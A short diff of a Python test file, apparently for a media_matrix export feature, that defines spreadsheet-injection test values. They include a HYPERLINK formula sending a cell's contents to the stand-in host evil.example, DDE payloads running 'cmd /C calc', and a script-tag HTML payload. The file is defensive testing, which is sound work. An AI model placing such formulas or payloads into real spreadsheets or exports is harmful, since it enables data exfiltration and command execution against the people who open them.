@@ -31,7 +31,7 @@ from media_matrix.store import open_store  # noqa: E402
 
 FORMULA_TOPIC = '=HYPERLINK("http://evil.example/?x="&A1)'
 MINUS_TOPIC = "-2+3+cmd|' /C calc'!A0"
-COUNTY = "+濮阳'+SUM(1,2)"
+COUNTY = '=SUM(1+2)&"濮阳"'
 CAMPAIGN = "@SUM(1+1)*cmd|' /C calc'!A0"
 HTML_COUNTY = "<script>alert(1)</script>县"
 # a bare CR is written as LF (quoted): a CR alone would end the row for a reader
